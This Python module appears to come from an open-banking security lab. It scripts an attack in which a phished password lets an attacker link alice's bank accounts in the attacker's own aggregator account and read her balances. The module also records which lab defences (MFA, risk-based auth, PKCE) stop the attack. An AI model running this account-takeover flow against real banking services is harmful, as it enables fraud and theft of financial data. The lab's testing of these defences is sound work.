"""password-only-login: a phished password links alice's accounts in the attacker's FinLens.

The CS attacker has alice's password, not her authenticator. In its own browser (from
127.0.0.2) it signs in to FinLens as itself, clicks "Link HonestBank", signs in at the
AS as alice with the password and consents. PSD2 RTS Art. 4: strong customer
authentication needs a second, independent element; the lab's ◐ mfa_required asks for it.
"""

from __future__ import annotations

from attacker import login_support as ls
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from lab.tpp.driver import TppBrowser, parse_dashboard

PHISHED = ("alice", "wonderland")


def run(ctx: AttackContext) -> None:
    username, password = PHISHED
    http = ls.attacker_session(ctx)
    browser = TppBrowser(ctx.config.tpp_url, str(ctx.config.ca_cert_path))
    browser.http = http
    ctx.send("POST", browser.url("/signin"), http=http, data={"username": f"evil-{ctx.run_tag}"},
             what="signs in to FinLens as itself")
    start = ctx.send("POST", browser.url("/link/honestbank"), http=http,
                     what="clicks \"Link HonestBank\" in its own FinLens account")
    if start.status_code != 303:
        ctx.failed("FinLens did not start the link", start)
    page = ctx.send("GET", start.headers["Location"], http=http, what="opens the AS login page")
    if ls.login_form(page) is None:
        # RFC 6749 §4.1.2.1: the AS refused FinLens's request (redirect with error=, or a page)
        ctx.failed("the AS refused FinLens's authorization request before any login", page)
    answer = ls.password_login(ctx, http, page, username, password,
                               what=f"signs in at the AS as {username} with the phished password")
    reached = ls.signed_in(answer)
    ls.stop_if_device_asked(ctx, http, answer, username)
    if reached == "mfa":
        action, fields = ls.login_form(answer) or ("", [])
        tried = ctx.send("POST", action, http=http, data=[*fields, ("code", ""),
                                                           ("action", "verify")],
                         what="submits the second-factor form: it has no code for alice")
        ctx.failed("the AS asks for alice's second factor; a phished password is not enough",
                   tried)
    if reached != "consent":
        ctx.failed("the AS refused alice's password", answer)
    approved = ls.consent_everything(ctx, http, answer)
    location = approved.headers.get("Location", "")
    if not approved.is_redirect or "/callback" not in location:
        ctx.failed("the AS did not send the browser back to FinLens", approved)
    delivered = browser.deliver(location)
    for r in [*delivered.history, delivered]:
        ctx.note_request(r, actor="attacker")
    ctx.step("attacker", "comes back to FinLens with alice's code", status=delivered.status_code)
    if delivered.status_code >= 400:
        ctx.failed("FinLens refused the authorization response", delivered)
    dashboard = ctx.send("GET", browser.url("/dashboard"), http=http,
                         what="opens its FinLens dashboard")
    page_seen = parse_dashboard(dashboard.text)
    balances = {a.account_id: f"{a.balance} {a.currency}" for link in page_seen.links
                for a in link.accounts if a.balance}
    if not balances:
        ctx.failed("the attacker's dashboard shows no balances", dashboard)
    ctx.succeeded(f"alice's {len(balances)} accounts are linked in the attacker's FinLens "
                  "account, balances shown", balances)


ATTACK = Attack(
    id="password-only-login", attacker="CS", legs=("own",), victim="none",
    title="Phished password links the victim's accounts",
    blocked_by=("mfa_required", "risk_based_auth"),
    premise="Holds alice's phished password, not her authenticator; uses its own browser and "
            "its own FinLens account.",
    goal="alice's balances in the attacker's FinLens account", run=run,
    refs=("RTS Art. 4", "PSD2 Art. 97"),
    also_blocked_by={
        "pkce_required":
            "the attacker links through FinLens, whose legacy flow sends no PKCE: the AS "
            "refuses FinLens's request itself",
    },
)
